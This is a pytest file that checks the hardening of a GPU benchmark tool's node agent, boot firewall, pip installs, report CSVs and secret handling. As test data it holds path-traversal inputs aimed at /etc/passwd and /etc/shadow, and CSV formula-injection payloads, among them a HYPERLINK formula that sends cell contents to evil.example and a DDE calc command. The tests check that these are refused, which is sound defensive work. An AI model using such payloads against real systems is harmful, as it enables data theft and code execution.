"""Bad input and attacks on the smaller hardening items: the node agent's job ids, file names and
body limit (real aiohttp server, real HTTP), the boot script's firewall (run by bash with the rule
commands stubbed), the agent image and its pip installs, CSV formula injection in the reports,
durable atomic writes, and the installation secret."""

from __future__ import annotations

import asyncio
import json
import os
import re
import socket
import threading
from pathlib import Path

import httpx
import pandas as pd
import pytest

from bakeoff import catalog, secrets, store
from bakeoff.agent import job as agent_job
from bakeoff.agent.server import Agent, build_app
from bakeoff.core.launch import AGENT_PORT
from bakeoff.plan import PlanError, load_plan, plan_from_dict
from bakeoff.serving import bundle, userdata
from tests.stub_host import StubHost

KEY = "small-items-key-0123456789abcdef"


# --- the node agent -------------------------------------------------------------------------------


class _NoBench(Agent):
    """The real agent with the benchmark process replaced by a record of what it would run."""

    def __init__(self, **kw):
        super().__init__(**kw)
        self.benched: list[dict] = []

    def _bench(self, job, workload, out, i):
        self.benched.append(workload)


@pytest.fixture
def agent(tmp_path):
    """The agent's aiohttp app on a real port, in a thread of its own."""
    a = _NoBench(serve_url="http://127.0.0.1:9", key=KEY, log_dir=tmp_path / "log", work_dir=tmp_path / "work")
    loop = asyncio.new_event_loop()
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    from aiohttp import web

    runner = web.AppRunner(build_app(a), access_log=None)
    started = threading.Event()

    def serve():
        asyncio.set_event_loop(loop)
        loop.run_until_complete(runner.setup())
        loop.run_until_complete(web.TCPSite(runner, "127.0.0.1", port).start())
        started.set()
        loop.run_forever()

    t = threading.Thread(target=serve, daemon=True)
    t.start()
    assert started.wait(10)
    client = httpx.Client(base_url=f"http://127.0.0.1:{port}", headers={"Authorization": f"Bearer {KEY}"}, timeout=60)
    yield a, client, tmp_path
    client.close()
    asyncio.run_coroutine_threadsafe(runner.cleanup(), loop).result(10)
    loop.call_soon_threadsafe(loop.stop)
    t.join(10)


def _job(**kw):
    return {
        "job_id": "t-0123456789ab",
        "run_id": "r",
        "target": "t",
        "model": "m",
        "gpus": 1,
        "workloads": [{"name": "w"}],
        "files": {},
        **kw,
    }


@pytest.mark.parametrize("job_id", ["..", ".", ".hidden", "ok\n"])
def test_agent_refuses_job_ids_that_are_not_plain_names(agent, job_id):
    a, client, tmp = agent
    r = client.post("/agent/jobs", json=_job(job_id=job_id))
    assert r.status_code == 400 and "job_id" in r.json()["error"]
    assert a.jobs == {} and not (tmp / "work" / ".inputs").exists()


@pytest.mark.parametrize("path", ["/etc/passwd", "../../../etc/shadow", "w0-source_path/../../x", "missing.jsonl"])
def test_agent_refuses_workload_paths_that_are_not_the_jobs_own_files(agent, path):
    a, client, _ = agent
    r = client.post(
        "/agent/jobs", json=_job(workloads=[{"name": "w", "source_path": path}], files={"w0-source_path.jsonl": "{}\n"})
    )
    assert r.status_code == 400
    assert "workloads[0].source_path" in r.json()["error"] and "not one of the job's files" in r.json()["error"]
    assert a.jobs == {} and a.benched == []


@pytest.mark.parametrize("files", [{"ok\n": "x"}, {"a.jsonl": 123}, ["a.jsonl"]])
def test_agent_refuses_files_that_are_not_plain_names_with_text(agent, files):
    a, client, _ = agent
    r = client.post("/agent/jobs", json=_job(files=files))
    assert r.status_code == 400 and r.json()["error"].startswith("files") and a.jobs == {}


@pytest.fixture
def workloads(tmp_path, monkeypatch) -> Path:
    d = tmp_path / "workloads"
    d.mkdir()
    monkeypatch.setenv("BAKEOFF_WORKLOADS_DIR", str(d))
    return d


def _colocated_plan(workloads: Path, size: int):
    """The sandbox plan (co-located on its cloud targets) with a JSONL prompt file of about ``size`` bytes."""
    line = json.dumps({"prompt": "word " * 200}) + "\n"
    (workloads / "prompts.jsonl").write_text(line * (size // len(line) + 1))
    raw = load_plan("mi355x-vs-b200-sandbox").model_dump(mode="json")
    raw["workloads"] = [{**raw["workloads"][0], "source": "jsonl", "source_path": "prompts.jsonl"}]
    plan = plan_from_dict(raw)
    assert any(t.client_mode == "co-located" for t in plan.targets)
    return plan


class _Endpoint:
    model, emulated = "m", True


def test_a_2_mib_prompt_file_passes_the_worker_and_the_agent_accepts_it(agent, workloads):
    """The issue's case: the worker inlined it, the agent answered 413 after the node was paid for."""
    a, client, tmp = agent
    plan = _colocated_plan(workloads, 2 * 1024 * 1024)
    agent_job.preflight(plan)
    t = next(t for t in plan.targets if t.client_mode == "co-located")
    job = agent_job.build_job(plan, t, _Endpoint(), "manual__1")
    assert agent_job.encoded_size(job) > 2 * 1024 * 1024
    r = client.post("/agent/jobs", json=job)
    assert r.status_code == 202, r.text
    for _ in range(100):
        if a.benched:
            break
        threading.Event().wait(0.05)
    name = job["workloads"][0]["source_path"]
    assert a.benched[0]["source_path"] == str(a.job_dir(job["job_id"]) / ".inputs" / name)


SMALL = 512 * 1024


@pytest.fixture
def small_limit(monkeypatch):
    """A 0.5 MiB limit at both ends (the agent's app is built after this), so the test stays small."""
    from bakeoff.agent import server

    monkeypatch.setattr(agent_job, "MAX_JOB_BYTES", SMALL)
    monkeypatch.setattr(server, "MAX_JOB_BYTES", SMALL)
    return SMALL


def test_what_the_agent_would_refuse_is_refused_before_launch_naming_the_field(small_limit, agent, workloads):
    """One limit both ends: the plan is refused at start (nothing launched) iff the agent would say 413."""
    a, client, tmp = agent
    small = small_limit
    plan = _colocated_plan(workloads, small + 1024)
    with pytest.raises(
        PlanError,
        match=r"workloads\[0\]\.source_path: .* over the node agent's 0\.5 MiB limit.*"
        r"client_mode: remote",
    ):
        agent_job.preflight(plan)
    t = next(t for t in plan.targets if t.client_mode == "co-located")
    with pytest.raises(PlanError, match=r"workloads\[0\]\.source_path"):
        agent_job.build_job(plan, t, _Endpoint(), "manual__1")

    # and the agent holds the same line: just under it is accepted, just over it is refused
    def sized(n):
        j = _job(files={"w0-source_path.jsonl": ""}, workloads=[{"name": "w", "source_path": "w0-source_path.jsonl"}])
        j["files"]["w0-source_path.jsonl"] = "x" * (n - agent_job.encoded_size(j))
        assert agent_job.encoded_size(j) == n
        return j

    assert client.post("/agent/jobs", json={**sized(small + 100), "job_id": "over"}).status_code == 413
    assert "over" not in a.jobs
    assert client.post("/agent/jobs", json={**sized(small), "job_id": "at"}).status_code == 202


def test_start_run_refuses_an_oversize_co_located_plan_before_recording_anything(
    tmp_path, data_root, monkeypatch, workloads
):
    from bakeoff.run import pipeline

    monkeypatch.setattr(agent_job, "MAX_JOB_BYTES", 256 * 1024)
    plan = _colocated_plan(workloads, 300 * 1024)
    ref = tmp_path / "big.yaml"
    import yaml

    ref.write_text(yaml.safe_dump(plan.model_dump(mode="json")))
    with pytest.raises(PlanError, match=r"workloads\[0\]\.source_path"):
        pipeline.start_run(str(ref), "manual__big")
    assert not store.run_dir(plan.name, "manual__big").exists()


# --- the boot script's firewall ---------------------------------------------------------------------


def _target():
    raw = load_plan("mi355x-vs-b200-sandbox").model_dump(mode="json")
    t = next(x for x in raw["targets"] if x["provider"] == "aws")
    return plan_from_dict({**raw, "targets": [t]}).targets[0]


def _run_boot(script: str, tmp: Path, failing: str) -> tuple[int, str, list[str]]:
    """Run a boot script under bash with every host command a stub (``tests/stub_host``) and every
    absolute path moved under ``tmp``; ``failing`` is a regex of the iptables/ip6tables calls that fail."""
    for d in ("/var/log/bakeoff", "/etc/bakeoff", "/opt/bakeoff", "/var/lib/bakeoff", "/mnt/nvme"):
        script = script.replace(d, str(tmp / d.strip("/")))
    script = script.replace("/dev/console", str(tmp / "console"))
    script = script.replace("/dev/kfd", str(tmp / "kfd"))  # the AMD driver's device: present
    (tmp / "kfd").touch()
    host = StubHost(tmp)
    for fw in ("iptables", "ip6tables"):
        host.stub(fw, f'if [[ "{fw} $*" =~ $FAILING ]]; then echo "{fw}: rule failed" >&2; exit 1; fi')
    for c in ("docker", "curl", "shutdown", "poweroff", "nvidia-smi", "nvidia-container-runtime", "rocm-smi"):
        host.stub(c)
    for c in ("amd-smi", "sleep"):
        host.stub(c)
    # reads its input as the real one does: a stub that exits first makes `echo … | sha256sum -c -`
    # fail under pipefail (SIGPIPE) now and then, and the boot stops at the agent's checksum
    host.stub("sha256sum", "cat > /dev/null")
    host.stub("mountpoint")  # the cache "is mounted": no disk is looked at or formatted
    out = host.run(script, env={"FAILING": failing})
    console = (tmp / "console").read_text() if (tmp / "console").exists() else ""
    return (out.returncode, out.stdout + out.stderr + console, host.calls)


@pytest.mark.parametrize("failing", ["ip6tables .* -j DROP", "-s 127.0.0.1 -j ACCEPT", f"--dport {AGENT_PORT} -j DROP"])
def test_a_failed_firewall_rule_stops_the_boot_before_anything_listens(tmp_path, failing):
    agent = {"url": "https://b.example/c.zip", "sha256": "a" * 64, "requirements": ["httpx==0.28.1"]}
    script = userdata.render(
        _target(), api_key=KEY, shutdown_after_s=3600, ingress_cidr="203.0.113.7/32", agent=agent, expires_at=1.9e9
    )
    if not os.path.exists("/proc/net/if_inet6") and failing.startswith("ip6tables"):
        pytest.skip("no IPv6 on this host: ip6tables rules are skipped by design")
    (tmp_path / "ok").mkdir()
    code, out, calls = _run_boot(script, tmp_path / "ok", "^$")  # every rule in place: the boot goes on
    assert "firewall for port" not in out and [c for c in calls if c.startswith("docker run")], (out, calls)
    code, out, calls = _run_boot(script, tmp_path, failing)
    assert code != 0
    assert re.search(r"bakeoff: firewall for port \d+ failed .*stopping before anything listens", out), out
    assert (tmp_path / "var/log/bakeoff/boot.log").read_text().count("firewall for port") == 1
    assert not [c for c in calls if c.startswith(("docker run", "docker pull"))], calls


# --- the agent image and its installs ---------------------------------------------------------------


def test_the_agent_image_is_pinned_by_digest_and_a_tag_is_refused(monkeypatch):
    assert re.fullmatch(r"python:3\.11-slim-bookworm@sha256:[0-9a-f]{64}", catalog.agent_image())
    monkeypatch.setitem(catalog.serving()["agent"], "image", "python:3.11-slim-bookworm")
    with pytest.raises(ValueError, match="agent.image: .* not pinned by digest"):
        catalog.agent_image()


def test_the_node_installs_with_require_hashes_from_the_bundle():
    agent = {"url": "https://b.example/c.zip", "sha256": "a" * 64, "requirements": ["httpx==0.28.1"]}
    script = userdata.render(_target(), api_key=KEY, shutdown_after_s=3600, ingress_cidr=None, agent=agent)
    assert (
        f"pip install --no-cache-dir --quiet --require-hashes --only-binary=:all: "
        f"-r /opt/bakeoff/client/{bundle.HASHES_IN_BUNDLE}"
    ) in script
    assert "pip install --no-cache-dir --quiet httpx" not in script
    import io
    import zipfile

    data, _ = bundle.build()
    text = zipfile.ZipFile(io.BytesIO(data)).read(bundle.HASHES_IN_BUNDLE).decode()
    lines = [ln for ln in text.splitlines() if ln and not ln.startswith("#")]
    assert lines and all(re.fullmatch(r"[a-z0-9-]+==\S+ --hash=sha256:[0-9a-f]{64}\s+# \S+\.whl", ln) for ln in lines)


def test_staging_refuses_a_hashes_file_that_does_not_match_the_workers_pins(monkeypatch, tmp_path):
    stale = tmp_path / "requirements-node.txt"
    stale.write_text(bundle.HASHES_FILE.read_text().replace("httpx==", "httpx==0.0.1-was-"))
    monkeypatch.setattr(bundle, "HASHES_FILE", stale)
    with pytest.raises(ValueError, match="agent requirements: .*scripts/agent_requirements.py"):
        bundle.stage_s3(None, "bucket")


# --- report CSVs --------------------------------------------------------------------------------------

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def test_report_csvs_carry_no_formula_and_keep_negative_numbers(tmp_path, data_root):
    import sys

    sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "report"))
    import synthetic

    from bakeoff.cost import cost_run
    from bakeoff.report import build_report

    plan = synthetic.make_plan(names=("mi355x-vllm", "+cmd|' /C calc'!A0", "@SUM(1+1)"))
    rdir = synthetic.make_run(tmp_path / "results", plan, quarantine={plan.targets[1].slug})
    store.write_json(
        rdir / "validation.json",
        {"passed": False, "targets": {t.slug: {"passed": False, "failures": [EVIL, "-2+3"]} for t in plan.targets}},
    )
    cost_run(plan, rdir)
    paths = build_report(plan, rdir, tmp_path / "out")
    import csv

    for kind, p in paths.items():
        if not kind.startswith("csv_"):
            continue
        for row in csv.reader(open(p, encoding="utf-8")):
            for cell in row:
                assert not cell.startswith(("=", "+", "@", "\t", "\r")), (kind, cell)
                if cell.startswith("-"):
                    float(cell)  # only a number may start with '-'
    from bakeoff.report.csvsafe import safe_frame

    df = safe_frame(pd.DataFrame({"n": [-1.5, 2.0], "s": ["-3", EVIL], "t": ["\t=1", "ok"]}))
    assert df["n"].tolist() == [-1.5, 2.0] and df["s"].tolist() == ["-3", "'" + EVIL]
    assert df["t"].tolist() == ["'\t=1", "ok"]


# --- durable atomic writes ----------------------------------------------------------------------------


def test_atomic_writes_fsync_the_file_before_rename_and_the_directory_after(tmp_path, monkeypatch):
    from bakeoff.publishing import publish

    events = []
    real_fsync, real_replace = os.fsync, os.replace
    monkeypatch.setattr(
        os, "fsync", lambda fd: (events.append(("fsync", os.readlink(f"/proc/self/fd/{fd}"))), real_fsync(fd))[1]
    )
    monkeypatch.setattr(os, "replace", lambda a, b: (events.append(("replace", str(b))), real_replace(a, b))[1])
    writers = {
        "store.write_json": lambda p: store.write_json(p, {"a": 1}),
        "store.write_frame": lambda p: store.write_frame(p, pd.DataFrame({"a": [1]})),
        "publish._atomic_text": lambda p: publish._atomic_text(p, "x"),
    }
    for name, write in writers.items():
        events.clear()
        target = tmp_path / name / "doc"
        write(target)
        i = next(i for i, e in enumerate(events) if e == ("replace", str(target)))
        before, after = events[:i], events[i + 1 :]
        assert any(e[0] == "fsync" and Path(e[1]).parent == target.parent and e[1] != str(target) for e in before), (
            name,
            events,
        )
        assert ("fsync", str(target.parent)) in after, (name, events)


# --- the installation secret --------------------------------------------------------------------------


@pytest.mark.parametrize("value", ["", "short", "x" * 31])
def test_a_short_installation_secret_in_the_environment_is_refused(monkeypatch, value):
    monkeypatch.setenv("BAKEOFF_SECRET_KEY", "k" * 32)
    assert secrets.api_key("r", "t").startswith("bk-")  # 32 bytes is enough
    monkeypatch.setenv("BAKEOFF_SECRET_KEY", value)
    with pytest.raises(ValueError, match=r"BAKEOFF_SECRET_KEY: .*at least 32 bytes.*token_hex"):
        secrets.api_key("r", "t")


@pytest.mark.parametrize("value", ["", "\n", "0123456789"])
def test_an_empty_or_short_secret_key_file_is_refused(monkeypatch, data_root, value):
    monkeypatch.delenv("BAKEOFF_SECRET_KEY", raising=False)
    from bakeoff.paths import state_root

    path = state_root() / "secret.key"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(value)
    with pytest.raises(ValueError, match=r"secret.key: .*at least 32 bytes.*(delete it|token_hex)"):
        secrets.api_key("r", "t")
    path.unlink()  # deleted: a fresh one is generated
    assert secrets.api_key("r", "t") == secrets.api_key("r", "t") and len(path.read_text().strip()) == 64


def test_a_reader_that_cannot_create_the_secret_is_told_what_it_lacks(monkeypatch, data_root):
    """A read-only mount without secret.key (compose's clients on an engine that ignored the volume's
    subpath) fails naming the file, the variable and the engine, not with a bare EROFS."""
    import errno

    monkeypatch.delenv("BAKEOFF_SECRET_KEY", raising=False)

    def read_only(*_args, **_kwargs):
        raise OSError(errno.EROFS, "Read-only file system")

    monkeypatch.setattr(secrets.os, "open", read_only)
    with pytest.raises(
        RuntimeError,
        match=r"secret.key: no installation secret at .*Read-only file system.*"
        r"BAKEOFF_SECRET_KEY.*Docker Engine before 26",
    ):
        secrets.api_key("r", "t")


# --- second review: smaller items (N5 firewall, N8) ---------------------------------------------------


def test_every_other_inbound_tcp_port_is_dropped_before_anything_listens(tmp_path):
    """An engine a plan moved to port 8001 listened unfiltered where no cloud firewall stands (Vultr)."""
    agent = {"url": "https://b.example/c.zip", "sha256": "a" * 64, "requirements": ["httpx==0.28.1"]}
    script = userdata.render(
        _target(), api_key=KEY, shutdown_after_s=3600, ingress_cidr="203.0.113.7/32", agent=agent, expires_at=1.9e9
    )
    (tmp_path / "ok").mkdir()
    code, out, calls = _run_boot(script, tmp_path / "ok", "^$")
    fw = [c for c in calls if c.startswith("iptables")]
    deny = fw.index("iptables -A INPUT -p tcp -j DROP")
    assert fw.index("iptables -A INPUT -i lo -j ACCEPT") < deny
    assert "iptables -A INPUT -p tcp -m conntrack --ctstate ESTABLISHED,RELATED -j ACCEPT" in fw[:deny]
    assert calls.index("iptables -A INPUT -p tcp -j DROP") < min(
        i for i, c in enumerate(calls) if c.startswith("docker run")
    )
    code, out, calls = _run_boot(script, tmp_path, "-A INPUT -p tcp -j DROP")
    assert code != 0 and "firewall default-deny failed" in out
    assert not [c for c in calls if c.startswith(("docker run", "docker pull"))], calls


def test_a_digitalocean_firewall_is_removed_when_the_user_data_will_not_render(monkeypatch):
    from bakeoff.providers.digitalocean import DigitalOceanProvider, firewall_owner
    from bakeoff.providers.tags import LABELS
    from bakeoff_sandbox.clouds import TOKEN, Clouds
    from tests.providers.cloud_helpers import launch_args, make_target, new_run_id

    server = Clouds(None, boot_s=0.05).start()
    try:
        creds = {"token": TOKEN, "base_url": f"{server.url}/do/v2", "poll_s": 0.02, "backoff_s": 0.001}
        t, rid = make_target("digitalocean", ingress_cidr="127.0.0.1/32"), new_run_id()

        def unrenderable(target, spec):
            raise ValueError("targets.x: the boot script is 20000 bytes, over the clouds' 16384-byte limit")

        monkeypatch.setattr(userdata, "render_for", unrenderable)
        with pytest.raises(ValueError, match="16384-byte limit"):
            DigitalOceanProvider(creds).create(t, rid, **launch_args(rid, t))
        left = [
            fw for fw in server.do.firewalls.values() if (firewall_owner(fw["name"]) or ("",))[0] == LABELS.run(rid)
        ]
        assert left == [] and not server.do.nodes
    finally:
        server.stop()


def test_the_compose_reaper_passes_as_often_as_the_docs_say():
    import yaml

    root = Path(__file__).resolve().parents[2]
    command = yaml.safe_load((root / "docker-compose.yml").read_text())["services"]["bakeoff-reaper"]["command"]
    interval = float(command[command.index("--interval-s") + 1])
    assert "within one interval (5 min)" in (root / "docs" / "security.md").read_text() and interval == 5 * 60


def test_a_missing_secret_fails_before_the_client_bundle_is_uploaded(data_root, tmp_path, monkeypatch):
    from bakeoff.providers import ProviderError
    from bakeoff.run import pipeline, provisioning

    monkeypatch.setattr(secrets, "_resolve_connection", secrets.env_connection)
    image = "vllm/vllm-openai:v0.25.0@sha256:" + "5e" * 32
    monkeypatch.setenv("BAKEOFF_TRUSTED_IMAGES", image)
    raw = load_plan("mi355x-vs-b200-sandbox").model_dump(mode="json")
    t = next(x for x in raw["targets"] if x["provider"] == "aws")
    t.update(secrets={"HF_TOKEN": "huggingface_absent"}, image=image)
    raw.update(name="absent-secret", targets=[t])
    path = tmp_path / "p.yaml"
    path.write_text(json.dumps(raw))
    run = pipeline.start_run(str(path), "manual__absent")
    staged: list = []
    monkeypatch.setattr(provisioning, "stage_client", lambda *a, **k: staged.append(a) or None)
    with pytest.raises(ProviderError, match="huggingface_absent"):
        provisioning.provision(run["run_dir"], run["targets"][0])
    assert staged == []


@pytest.mark.parametrize("name", ["HFTOKEN", "HF_AUTH", "MY_PASS", "DB_PASSWORD1", "OPENAI_APIKEY2", "X_PWD"])
def test_secret_looking_env_names_outside_the_list_are_refused(name):
    raw = load_plan("mi355x-vs-b200-sandbox").model_dump(mode="json")
    raw["targets"][0]["env"] = {name: "value"}
    with pytest.raises(PlanError, match=rf"env\.{name} looks like a secret"):
        plan_from_dict(raw)
    raw["targets"][0]["env"] = {"VLLM_MAX_NUM_BATCHED_TOKENS": "8192", "TOKENIZERS_PARALLELISM": "false"}
    assert plan_from_dict(raw)


@pytest.mark.parametrize(
    "name", ["HUGGINGFACE_HUB_TOK", "HF_TOK", "GH_PAT", "AWS_SESSION", "HUB_SECR", "X_JWT", "DB_CRED", "MY_SESS2"]
)
def test_abbreviated_secret_env_names_are_refused_by_rule(name):
    raw = load_plan("mi355x-vs-b200-sandbox").model_dump(mode="json")
    raw["targets"][0]["env"] = {name: "value"}
    with pytest.raises(PlanError, match=rf"env\.{name} looks like a secret"):
        plan_from_dict(raw)
    tuning = {"VLLM_MAX_NUM_BATCHED_TOKENS": "8192", "TOKENIZERS_PARALLELISM": "false", "NCCL_TIMEOUT_SEC": "60"}
    raw["targets"][0]["env"] = {**tuning, "OMP_NUM_THREADS": "8", "PATH_PREFIX": "/opt"}
    assert plan_from_dict(raw)
